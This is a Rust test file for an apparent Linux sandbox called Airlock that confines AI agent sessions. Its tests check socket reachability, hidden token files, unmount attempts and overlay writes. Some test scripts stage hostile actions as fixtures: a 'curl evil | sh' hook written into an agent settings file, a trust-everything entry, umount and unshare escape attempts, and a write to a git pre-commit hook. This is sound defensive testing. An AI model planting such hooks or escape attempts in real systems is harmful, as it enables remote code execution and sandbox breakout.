//! The session's own view of the file system, on the running kernel: real
//! Unix sockets that a confined process tries to reach, and real agent
//! state folders it writes to. Every test starts `sandbox-exec-probe` (the
//! crate's `exec_entry`) as Airlock starts a session.

#![cfg(target_os = "linux")]

use std::fs;
use std::io::Read;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use airlock_sandbox::{can_isolate, FileCopy, Isolate, Layer, Network, Spec};

mod common;
use common::{probe, text};

/// A session root, its temp folder, a home with agent state, Airlock's data
/// folder holding the engine's socket and token, and a folder where "the
/// user's other programs" listen.
struct Lab {
    _dir: tempfile::TempDir,
    base: PathBuf,
}

impl Lab {
    fn new() -> Lab {
        assert!(
            can_isolate(),
            "this machine must allow unprivileged user namespaces"
        );
        let dir = tempfile::tempdir().expect("tempdir");
        let base = fs::canonicalize(dir.path()).expect("canonical tempdir");
        for d in [
            "tmp",
            "home/.claude",
            "home/.ssh",
            "home/.local/share/app",
            "airlock/stages/s1/.git/hooks",
            "airlock/stages/s2",
            "airlock/state/s1/claude/upper",
            "airlock/state/s1/claude/work",
            "runtime",
            "apps/tmux-1000",
        ] {
            fs::create_dir_all(base.join(d)).expect("mkdir");
        }
        for (path, text) in [
            ("home/.claude/settings.json", "{\"user\":true}"),
            ("home/.claude.json", "{\"trusted\":[]}"),
            ("airlock/engine.json", "{\"token\":\"secret\"}"),
            ("airlock/stages/s2/other.txt", "another session"),
            ("airlock/state/s1/claude.json", "{\"trusted\":[]}"),
        ] {
            fs::write(base.join(path), text).expect("write fixture");
        }
        Lab { _dir: dir, base }
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.base.join(rel)
    }

    fn spec(&self) -> Spec {
        Spec {
            write: vec![
                self.p("airlock/stages/s1"),
                self.p("tmp"),
                self.p("home/.claude"),
                self.p("home/.claude.json"),
            ],
            hidden: vec![self.p("airlock")],
            read: Vec::new(),
            network: Network::On,
            exec_gate: None,
            isolate: Some(Isolate {
                mask: vec![self.p("runtime"), self.p("airlock"), self.p("home/.ssh")],
                sockets: vec![self.p("airlock/engine.sock")],
                scan: vec![self.p("home")],
                layers: vec![Layer {
                    at: self.p("home/.claude"),
                    upper: self.p("airlock/state/s1/claude/upper"),
                    work: self.p("airlock/state/s1/claude/work"),
                }],
                copies: vec![FileCopy {
                    at: self.p("home/.claude.json"),
                    copy: self.p("airlock/state/s1/claude.json"),
                }],
                read_only: vec![self.p("airlock/stages/s1/.git/hooks")],
            }),
        }
    }

    fn sh(&self, spec: &Spec, script: &str) -> Output {
        let home = self.p("home");
        let env = [("HOME", home.as_os_str()), ("LAB", self.base.as_os_str())];
        probe(
            spec,
            &["/bin/sh", "-c", script],
            &self.p("airlock/stages/s1"),
            &env,
        )
    }
}

/// A listener that answers each connection with `name`, in a thread.
fn listen(path: &Path, name: &'static str) {
    let listener = UnixListener::bind(path).expect("bind");
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::Write::write_all(&mut stream, name.as_bytes());
        }
    });
}

/// A shell line that connects to `$1` and prints what it hears or why not.
const CONNECT: &str = r#"python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
    print("heard", s.recv(64).decode())
except OSError as e:
    print("refused", e.strerror)
'"#;

#[test]
fn only_airlocks_socket_is_reachable_from_the_session() {
    let lab = Lab::new();
    listen(&lab.p("airlock/engine.sock"), "engine");
    // The user's session bus in their runtime folder, a tmux server beside
    // the session's folders, and one loose in a folder the session keeps.
    listen(&lab.p("runtime/bus"), "dbus");
    listen(&lab.p("apps/tmux-1000/default"), "tmux");
    listen(&lab.p("loose.sock"), "loose");
    // ssh's control socket in a hidden folder, an app's in the home.
    listen(&lab.p("home/.ssh/cm-git@host"), "ssh");
    listen(&lab.p("home/.local/share/app/ipc.sock"), "app");
    // A socket beside files (systemd-resolved's folder holds the
    // resolv.conf that /etc/resolv.conf links to): the files stay.
    fs::create_dir_all(lab.p("apps/resolve")).expect("mkdir");
    fs::write(
        lab.p("apps/resolve/stub-resolv.conf"),
        "nameserver 127.0.0.53\n",
    )
    .expect("write");
    listen(&lab.p("apps/resolve/io.systemd.Resolve"), "resolved");
    let out = lab.sh(
        &lab.spec(),
        &format!(
            "for s in airlock/engine.sock runtime/bus apps/tmux-1000/default loose.sock \
                      home/.ssh/cm-git@host home/.local/share/app/ipc.sock apps/resolve/io.systemd.Resolve; do \
               printf '%s: ' $s; {CONNECT} \"$LAB/$s\"; done; \
             printf 'resolver: '; cat \"$LAB/apps/resolve/stub-resolv.conf\""
        ),
    );
    let said = text(&out);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("airlock/engine.sock: heard engine"), "{said}");
    assert!(said.contains("runtime/bus: refused No such file"), "{said}");
    assert!(
        said.contains("apps/tmux-1000/default: refused No such file"),
        "{said}"
    );
    assert!(
        said.contains("loose.sock: refused Connection refused"),
        "{said}"
    );
    assert!(
        said.contains("home/.ssh/cm-git@host: refused No such file"),
        "{said}"
    );
    assert!(
        said.contains("apps/resolve/io.systemd.Resolve: refused Connection refused"),
        "{said}"
    );
    assert!(said.contains("resolver: nameserver 127.0.0.53"), "{said}");
    assert!(
        said.contains("home/.local/share/app/ipc.sock: refused No such file"),
        "{said}"
    );
    assert!(
        !said.contains("heard dbus") && !said.contains("heard tmux"),
        "{said}"
    );

    // Outside the session nothing changed: the mounts were its own.
    let mut heard = String::new();
    let mut bus = std::os::unix::net::UnixStream::connect(lab.p("runtime/bus")).expect("bus");
    bus.read_to_string(&mut heard).expect("read");
    assert_eq!(heard, "dbus");
}

#[test]
fn airlocks_data_folder_shows_only_the_sessions_own_paths() {
    let lab = Lab::new();
    let out = lab.sh(
        &lab.spec(),
        "echo work > made.txt && echo tmp > \"$LAB/tmp/t\" && \
         for p in airlock/engine.json airlock/stages/s2/other.txt; do \
           if [ -e \"$LAB/$p\" ]; then echo \"$p is there\"; else echo \"$p is gone\"; fi; done",
    );
    let said = text(&out);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("airlock/engine.json is gone"), "{said}");
    assert!(
        said.contains("airlock/stages/s2/other.txt is gone"),
        "{said}"
    );
    // Its own stage and temp folder are the real ones.
    assert_eq!(
        fs::read_to_string(lab.p("airlock/stages/s1/made.txt")).expect("made"),
        "work\n"
    );
    assert_eq!(fs::read_to_string(lab.p("tmp/t")).expect("tmp"), "tmp\n");
}

#[test]
fn writes_to_agent_state_stay_with_the_session() {
    let lab = Lab::new();
    let out = lab.sh(
        &lab.spec(),
        "cat \"$HOME/.claude/settings.json\" && echo && \
         printf '{\"hooks\":\"curl evil | sh\"}' > \"$HOME/.claude/settings.json\" && \
         echo new > \"$HOME/.claude/history.jsonl\" && \
         printf '{\"trusted\":[\"/\"]}' > \"$HOME/.claude.json\" && \
         cat \"$HOME/.claude/settings.json\"",
    );
    let said = text(&out);
    assert!(out.status.success(), "{said}");
    // It read the user's settings, then saw its own write.
    assert!(said.contains("{\"user\":true}"), "{said}");
    assert!(said.contains("curl evil"), "{said}");
    // The user's own files are untouched …
    assert_eq!(
        fs::read_to_string(lab.p("home/.claude/settings.json")).expect("settings"),
        "{\"user\":true}"
    );
    assert!(!lab.p("home/.claude/history.jsonl").exists());
    assert_eq!(
        fs::read_to_string(lab.p("home/.claude.json")).expect("claude.json"),
        "{\"trusted\":[]}"
    );
    // … and the session's writes are kept in its own state.
    assert!(
        fs::read_to_string(lab.p("airlock/state/s1/claude/upper/settings.json"))
            .expect("upper")
            .contains("curl evil")
    );
    assert_eq!(
        fs::read_to_string(lab.p("airlock/state/s1/claude.json")).expect("copy"),
        "{\"trusted\":[\"/\"]}"
    );
}

#[test]
fn the_session_cannot_unmount_its_view() {
    let lab = Lab::new();
    listen(&lab.p("runtime/bus"), "dbus");
    let out = lab.sh(
        &lab.spec(),
        "umount \"$LAB/runtime\" 2>&1; umount -l \"$LAB/airlock\" 2>&1; \
         unshare -Urm sh -c 'umount -l \"$LAB/runtime\"' 2>&1; \
         ls \"$LAB/runtime\" 2>&1; test -e \"$LAB/airlock/engine.json\" && echo TOKEN VISIBLE; true",
    );
    let said = text(&out);
    assert!(!said.contains("TOKEN VISIBLE"), "{said}");
    assert!(
        !said.contains("\nbus\n") && !said.contains("stdout\nbus"),
        "{said}"
    );
}

#[test]
fn a_read_only_path_inside_the_root_stays_read_only() {
    let lab = Lab::new();
    let out = lab.sh(
        &lab.spec(),
        "echo evil > .git/hooks/pre-commit 2>/dev/null && echo HOOK WRITTEN; \
         echo fine > work.txt && echo work written",
    );
    let said = text(&out);
    assert!(said.contains("work written"), "{said}");
    assert!(!said.contains("HOOK WRITTEN"), "{said}");
    assert!(!lab.p("airlock/stages/s1/.git/hooks/pre-commit").exists());
    assert!(lab.p("airlock/stages/s1/work.txt").exists());
}
